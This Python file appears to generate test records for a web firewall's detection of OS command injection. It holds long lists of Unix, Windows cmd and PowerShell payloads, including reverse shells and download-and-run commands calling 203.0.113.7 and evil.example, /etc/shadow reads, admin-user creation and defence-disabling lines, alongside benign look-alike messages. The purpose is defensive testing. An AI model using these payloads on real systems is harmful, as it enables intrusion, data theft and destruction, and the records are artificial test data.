"""Blind examples for OS command injection (Unix shells, Windows cmd.exe, PowerShell), with benign requests
that carry the same words (developers mentioning shell commands in Slack and profile bios, Windows paths,
prose with semicolons, pipes and ampersands, URLs).

Written for this repository from general knowledge of the family, before any rule was changed for it (no
payload list or ruleset regression test was read). Each payload goes into three of our input places
(query, form, JSON, cookie, header), rotating. Same record schema as family_gen.py; deterministic.
"""

from __future__ import annotations

from collections.abc import Iterator
from typing import Any

from .family_gen import _get, _json, _query
from .family_gen_blind_php import _place, bio_request, prose_request, slack_message, three_places
from .records import numbered, print_records

UNIX = [
    # separators, then a command
    "127.0.0.1; id",
    "foo;uname -a",
    "x|whoami",
    "a || cat /etc/passwd",
    "1 && ls -la /",
    "report.pdf & head -n 5 /etc/shadow",
    "8.8.8.8\nid",
    "8.8.8.8%0aid",
    "x%0Acat%20/etc/hosts",
    "abc\r\nwget http://203.0.113.7/x -O /tmp/x",
    "q=1;netstat -an",
    "name'; ps aux; echo '",
    "\"; env; \"",
    "1|tail -f /var/log/auth.log",
    "x;more /etc/group",
    "x; less /etc/issue",
    "a;find / -perm -4000 -type f",
    "b|grep -r password /home",
    "c&&sort /etc/passwd",
    "; od -c /etc/shadow",
    "| strings /bin/ls",
    "& diff /etc/passwd /etc/group",
    # command substitution
    "$(id)",
    "user$(whoami)",
    "`id`",
    "x`uname -a`y",
    "$(cat /etc/passwd | base64)",
    "`sleep 10`",
    "$( sleep 5 )",
    "${IFS}",
    # whitespace substitutes
    "cat${IFS}/etc/passwd",
    ";cat$IFS$9/etc/passwd",
    "x;ls${IFS}-la${IFS}/",
    "{cat,/etc/passwd}",
    ";{ls,-la,/tmp}",
    "cat</etc/passwd",
    "x;cat\t/etc/hosts",
    "X=$'\\x20';cat${X}/etc/passwd",
    # quoting tricks
    ";c'a't /etc/passwd",
    "| w\"h\"o\"a\"mi",
    ";c\\at /e\\tc/pa\\sswd",
    "& \"w\"hoami",
    "; who''ami",
    "|un''ame -a",
    # globbing
    ";/???/c?t /e??/p??swd",
    "/bin/c[a]t /etc/pass*",
    "| /usr/bin/wh?ami",
    "/???/??n/w?et http://203.0.113.7/a",
    ";/b??/n? -e /b??/sh 203.0.113.7 4444",
    # variable tricks
    "; who$@ami",
    ";$u$@name -a",
    "a;c$()at /etc/passwd",
    "${PATH:0:1}etc${PATH:0:1}passwd",
    "; w${x}hoami",
    ";a=c;b=at;$a$b /etc/passwd",
    "$(printf '\\x69\\x64')",
    "; echo aWQ= | base64 -d | sh",
    "; $(rev<<<'di')",
    # reverse and bind shells
    "bash -i >& /dev/tcp/203.0.113.7/4444 0>&1",
    "; sh -i >& /dev/udp/203.0.113.7/53 0>&1",
    "0<&196;exec 196<>/dev/tcp/203.0.113.7/4444; sh <&196 >&196 2>&196",
    "nc -e /bin/sh 203.0.113.7 4444",
    "| ncat 203.0.113.7 9001 -e /bin/bash",
    "rm /tmp/f;mkfifo /tmp/f;cat /tmp/f|/bin/sh -i 2>&1|nc 203.0.113.7 1234 >/tmp/f",
    "python -c 'import socket,subprocess,os;s=socket.socket();s.connect((\"203.0.113.7\",4444))'",
    "; python3 -c \"import pty;pty.spawn('/bin/bash')\"",
    "perl -e 'use Socket;$i=\"203.0.113.7\";socket(S,PF_INET,SOCK_STREAM,getprotobyname(\"tcp\"))'",
    "socat tcp-connect:203.0.113.7:4444 exec:sh,pty,stderr",
    "; ruby -rsocket -e 'f=TCPSocket.open(\"203.0.113.7\",4444)'",
    "; php -r '$s=fsockopen(\"203.0.113.7\",4444);exec(\"/bin/sh -i <&3 >&3\");'",
    "telnet 203.0.113.7 4444 | /bin/sh | telnet 203.0.113.7 4445",
    "; awk 'BEGIN{s=\"/inet/tcp/0/203.0.113.7/4444\"}'",
    # download and run
    "; curl http://203.0.113.7/s.sh | sh",
    "curl -s https://evil.example/i | bash",
    "|wget -qO- http://203.0.113.7/x|sh",
    "; wget http://203.0.113.7/bot -O /tmp/.b; chmod +x /tmp/.b; /tmp/.b",
    "&& curl -o /tmp/x http://203.0.113.7/x && chmod 777 /tmp/x",
    "; tftp -g -r x 203.0.113.7",
    "; lwp-download http://203.0.113.7/x /tmp/x",
    "; fetch -o - http://203.0.113.7/x | sh",
    # timing and out-of-band probes
    "; sleep 10",
    "| sleep 5 #",
    "&& ping -c 10 127.0.0.1",
    "1;ping${IFS}-c${IFS}3${IFS}203.0.113.7",
    "; nslookup $(whoami).oob.example",
    "x; dig +short `hostname`.oob.example",
    "; timeout 5 yes",
    # a command line as the whole value
    "cat /etc/passwd",
    "id;uname -a",
    "ls -la /var/www",
    "uname -a",
    "/bin/bash -c id",
    "sh -c 'id'",
    "echo ssh-rsa AAAAB3Nza >> /root/.ssh/authorized_keys",
    "chmod 4755 /bin/bash",
    "crontab -l",
    "cp /bin/sh /tmp/sh; chmod +s /tmp/sh",
    "kill -9 -1",
    "tar cf - /etc | nc 203.0.113.7 9000",
    "xargs -a /etc/passwd echo",
    "head -c 100 /dev/urandom",
    "env X='() { :; }; echo vulnerable' bash -c id",
    "() { :;}; /bin/bash -c 'cat /etc/passwd'",
    # less common utilities after a separator (interpreters, archivers, editors, admin tools)
    "; tar -cvf /tmp/a.tar /etc",
    "| zip -r /tmp/w.zip /var/www",
    "&& openssl s_client -quiet -connect 203.0.113.7:443",
    "; ssh -o StrictHostKeyChecking=no u@203.0.113.7",
    "| scp /etc/passwd u@203.0.113.7:/tmp",
    "; rsync -a /var/www 203.0.113.7::x",
    "; sed -n 1p /etc/shadow",
    "; dd if=/etc/shadow",
    "| tee /var/www/html/s.php",
    "; git clone https://203.0.113.7/r.git /tmp/r",
    "; docker run -v /:/mnt alpine chroot /mnt sh",
    "; systemctl stop firewalld",
    "; mysql -u root -e 'select 1'",
    "; lua -e 'os.execute(\"id\")'",
    "| xargs -I{} sh -c {}",
    "; gdb -nx -ex '!sh' -ex quit",
    "; vim -c ':!/bin/sh'",
    "; sqlite3 /dev/null '.shell id'",
    "; find . -exec /bin/sh \\; -quit",
    "; pkexec /bin/sh",
]

WINDOWS = [
    "127.0.0.1 & dir",
    "x&dir c:\\",
    "| type c:\\windows\\win.ini",
    "&& type C:\\boot.ini",
    "a||ipconfig /all",
    "; net user",
    "& net user hacker P@ss1 /add",
    "| net localgroup administrators hacker /add",
    "& whoami /priv",
    "& systeminfo",
    "| tasklist /v",
    "& cmd /c dir",
    "cmd.exe /c whoami",
    "cmd /k ver",
    "& %COMSPEC% /c whoami",
    "%ComSpec% /c type %WINDIR%\\win.ini",
    "&set /a 1337*7",
    "& set",
    "| findstr /si password *.xml *.ini",
    "& certutil -urlcache -split -f http://203.0.113.7/x.exe c:\\temp\\x.exe",
    "& certutil.exe -decode c:\\temp\\a.b64 c:\\temp\\a.exe",
    "| bitsadmin /transfer j http://203.0.113.7/x.exe c:\\x.exe",
    "& reg query HKLM\\SOFTWARE\\Microsoft\\Windows\\CurrentVersion\\Run",
    "& wmic process call create calc.exe",
    "& mshta http://203.0.113.7/x.hta",
    "& rundll32.exe javascript:\"\\..\\mshtml,RunHTMLApplication\"",
    "| regsvr32 /s /n /u /i:http://203.0.113.7/x.sct scrobj.dll",
    "& ping -n 10 127.0.0.1",
    "& timeout /t 10",
    "x & echo %USERNAME%",
    "&& copy c:\\windows\\system32\\config\\sam c:\\inetpub\\wwwroot\\",
    "& del /f /q c:\\inetpub\\wwwroot\\index.html",
    "| schtasks /create /tn x /tr c:\\x.exe /sc onlogon",
    "& sc query",
    "& nltest /domain_trusts",
    "&& netsh advfirewall set allprofiles state off",
    "& c:\\windows\\system32\\cmd.exe /c dir",
    "& wh^oami",
    "& c^m^d /c di^r",
    "& cmd /v:on /c \"set x=whoami&& call %x%\"",
    "& vssadmin list shadows",
    "& attrib +h c:\\x.exe",
    "dir c:\\users\\administrator\\desktop",
    "type c:\\inetpub\\wwwroot\\web.config",
    # cmd.exe grammar: FOR loops, IF, CALL, START, variables
    "& for /f \"tokens=*\" %a in ('whoami') do echo %a",
    "for /l %i in (1,1,100) do ping -n 1 10.0.0.%i",
    "& if exist c:\\windows\\win.ini type c:\\windows\\win.ini",
    "& start /b calc.exe",
    "& call c:\\temp\\x.bat",
    "|echo %PATH%",
    "& %SystemRoot%\\System32\\cmd.exe /c dir",
    "& forfiles /p c:\\windows\\system32 /m notepad.exe /c calc.exe",
]

POWERSHELL = [
    "; powershell -enc SQBFAFgAIAAoAE4AZQB3AC0ATwBiAGoAZQBjAHQAKQA=",
    "& powershell.exe -nop -w hidden -c \"IEX (New-Object Net.WebClient).DownloadString('http://203.0.113.7/a')\"",
    "IEX (New-Object Net.WebClient).DownloadString('http://203.0.113.7/p.ps1')",
    "iex(iwr http://203.0.113.7/a -UseBasicParsing)",
    "| pwsh -c Get-Process",
    "& powershell -ExecutionPolicy Bypass -File \\\\203.0.113.7\\s\\x.ps1",
    "Invoke-WebRequest -Uri http://203.0.113.7/x.exe -OutFile $env:TEMP\\x.exe",
    "Invoke-Expression $(Get-Content c:\\x.txt)",
    "Start-Process calc.exe",
    "; Get-ChildItem -Path C:\\ -Recurse -Filter *.kdbx",
    "Get-Content C:\\Windows\\win.ini",
    "& powershell \"gc C:\\Windows\\win.ini\"",
    "(New-Object System.Net.WebClient).DownloadFile('http://203.0.113.7/x','x.exe')",
    "[System.Diagnostics.Process]::Start('cmd.exe')",
    "powershell -w hidden -noni -nop -enc JABjAD0A",
    "$c=New-Object Net.Sockets.TCPClient('203.0.113.7',4444);$s=$c.GetStream()",
    "& powershell -c \"Start-Sleep -s 10\"",
    "[Convert]::FromBase64String('aWV4') | iex",
    "Set-MpPreference -DisableRealtimeMonitoring $true",
    "; Remove-Item -Recurse -Force C:\\inetpub",
    "&& Get-WmiObject Win32_OperatingSystem",
    "| Out-File c:\\inetpub\\wwwroot\\s.aspx",
    "Get-Process | Stop-Process -Force",
    "Get-LocalUser",
    "; Get-Item env:",
    "&& Set-ExecutionPolicy Unrestricted -Force",
    "$ExecutionContext.InvokeCommand.InvokeScript('whoami')",
    "&('I'+'EX') 'whoami'",
    "powershell.exe -NoProfile -EncodedCommand dwBoAG8AYQBtAGkA",
    "; Invoke-Command -ScriptBlock {whoami}",
]

FAMILIES = {"unix": UNIX, "windows": WINDOWS, "powershell": POWERSHELL}
PLACES = ["query", "form", "json", "cookie", "header"]
PARAMS = ["host", "ip", "file", "q", "name", "cmd", "target", "domain"]


def attacks() -> Iterator[dict[str, Any]]:
    n = 0
    for sub, payloads in FAMILIES.items():
        for i, p in enumerate(payloads):
            for place, name in three_places(i, PARAMS):
                n += 1
                yield {**_place(place, name, p), "id": f"blind-rce-{n:04d}",
                       "category": "rce", "sub": sub, "placement": place}


# Benign: developers mentioning shell commands in prose, Windows paths users type, punctuation-heavy prose.
SLACK_TEXTS = [
    "run `make test` then ping me",
    "can you ping me when the deploy is done?",
    "the cat; the dog; the hamster: all fine at the vet",
    "Tom & Jerry | season 2 | episode 4",
    "ls output attached, the folder looks empty to me",
    "I ran `ls -la` in the build dir and the artifact is missing",
    "use `git pull --rebase` before pushing, please",
    "who am I supposed to ask about the VPN?",
    "kill the old branch once it's merged; cat pictures welcome in #random",
    "sleep well everyone, see you Monday",
    "echo chamber in the design review today, we need outside opinions",
    "type your name in the form and press Enter",
    "set the flag to true and restart the pod",
    "net revenue is up 4% & churn is down",
    "dir of engineering is out until the 12th",
    "the env var is DATABASE_URL, set it in .env.local",
    "I use bash and zsh interchangeably; fish is nice too",
    "python -m venv .venv is the first step in the README",
    "npm install && npm test should both pass now",
    "curl the health endpoint to check: https://api.example.com/healthz",
    "docker compose up -d brings up postgres and redis",
    "the nc on my Mac is the BSD flavor, the flags differ",
    "open PowerShell as admin and run the installer",
    "cmd + shift + p opens the command palette",
    "R&D | Q&A | P&L are the three tabs in the sheet",
    "AT&T and T-Mobile both work with the app",
    "head of sales: Maria; tail of the list: interns",
    "find the sort order in settings > display",
    "the uname field on the form should be the username",
    "we grep the logs with ripgrep now; much faster",
    "`$(pwd)` in the compose file resolves to the repo root",
    "sleep 2s between retries, the API rate-limits us",
    "Time: 10:00 | Place: room 4 | Topic: ops & on-call",
    "good morning :) coffee & croissants in the kitchen",
    "the path is C:\\Users\\ann\\Documents\\report.docx",
    "save it under D:\\Projects\\2024\\budget.xlsx",
    "I'm on Windows, so it's %APPDATA%\\Code\\User\\settings.json for me",
    "ping -c 4 is what I used; packet loss was 0%",
    "set /p is the old cmd trick for reading input, not needed here",
    "the wget vs curl debate continues in #tools",
]
BIOS = [
    "Backend dev; Linux nerd | coffee & cats",
    "I <3 bash, vim & tmux",
    "SRE @ Acme. Opinions are mine; bugs are yours.",
    "Rock & roll | hiking | photography",
    "Full-stack (Python/Go) & occasional sysadmin",
    "father of two; runner; amateur cook",
    "Ex-Windows admin, now writing PowerShell for fun",
    "ls, cd, and cat are my favorite commands",
]
PUBLIC_URLS = [
    "https://man7.org/linux/man-pages/man1/bash.1.html",
    "https://learn.microsoft.com/en-us/windows-server/administration/windows-commands/dir",
    "https://learn.microsoft.com/en-us/powershell/module/microsoft.powershell.utility/invoke-webrequest",
    "https://www.gnu.org/software/coreutils/manual/html_node/cat-invocation.html",
    "https://example.com/search?q=tom+%26+jerry",
    "https://github.com/acme/tools/blob/main/scripts/deploy.sh",
    "https://curl.se/docs/manpage.html",
    "https://example.org/a;b?c=1&d=2",
]
PROSE = [
    "salt & pepper; olive oil | to taste",
    "Smith & Sons Ltd. | invoice #4411",
    "id: 42; name: Ann",
    "C:\\Program Files\\Acme\\acme.exe",
    "\\\\fileserver\\share\\reports\\q3.xlsx",
    "yes | no | maybe",
    "Ben & Jerry's; cookie dough",
    "whoami? a question for philosophers",
    "cat food, dog food & bird seed",
    "echo park, los angeles",
]


def benign() -> Iterator[dict[str, Any]]:
    n = 0
    for text in SLACK_TEXTS:
        n += 1
        yield {**slack_message(text, n),
               "id": f"blindben-rce-slack-{n:04d}", "category": "benign", "placement": "json"}
    for text in BIOS + SLACK_TEXTS[::4]:
        n += 1
        yield {**bio_request(text), "id": f"blindben-rce-bio-{n:04d}",
               "category": "benign", "placement": "json"}
    for url in PUBLIC_URLS:
        for rec in (_json("/api/users", {"name": "Ann", "website": url}),
                    _get(_query("/api/users", [("q", "ann"), ("ref", url)]))):
            n += 1
            yield {**rec, "id": f"blindben-rce-url-{n:04d}", "category": "benign", "placement": "mixed"}
    n = yield from numbered((prose_request(text) for text in PROSE), "blindben-rce-prose", n, "form")


if __name__ == "__main__":
    print_records(attacks(), benign())
